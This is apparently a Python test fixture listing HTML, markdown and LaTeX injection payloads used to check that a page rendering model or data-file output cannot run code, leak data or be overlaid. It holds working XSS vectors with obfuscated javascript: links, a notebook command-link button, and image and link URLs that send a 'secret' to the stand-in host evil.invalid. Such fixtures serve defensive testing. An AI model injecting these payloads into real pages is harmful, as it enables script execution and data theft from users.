"""What a model or a data file may say so that a page that believes it runs code, sends data away, or looks like another."""

from __future__ import annotations

EVIL = "http://evil.invalid"

ATTACKS = [
    '<img src=x onerror="window.__ran=1">',
    "<script>window.__ran=2</script>",
    "[click](javascript:window.__ran=3) [click](JaVaScRiPt&#58;window.__ran=4)",
    '<a href="data:text/html,<script>parent.__ran=5</script>">click</a>',
    '<svg onload="window.__ran=6"></svg>',
    '<iframe srcdoc="<script>parent.__ran=7</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__ran=8></style></mglyph></table></mtext></math>",
    "<table><tr><td><style>body{display:none}</style><div style='position:fixed;inset:0'>over</div></td></tr></table>",
    f'<form action="{EVIL}/form"><input name=q autofocus onfocus="window.__ran=9"></form>',
    '```python\nx = "<img src=x onerror=window.__ran=10>"\n```',
    '<details open ontoggle="window.__ran=11"><summary>d</summary></details> <b onmouseover="window.__ran=12">b</b>',
    f"![chart]({EVIL}/leak.png?d=secret) ![chart][r]\n\n[r]: {EVIL}/leak2.png",
    f'<img src="{EVIL}/leak3.png"><link rel=stylesheet href="{EVIL}/a.css"><video poster="{EVIL}/p.png"></video>',
    "$\\href{javascript:window.__ran=13}{x}$ $$\\style{position:fixed}{y}$$ \\(\\href{javascript:window.__ran=14}{z}\\)",
    '<button data-commandlinker-command="notebook:restart-run-all" data-commandlinker-args="{}">run</button>',
    "</pre></code></details></div></blockquote><img src=x onerror=window.__ran=15>",
]
"""Each sets `window.__ran` where it can run."""
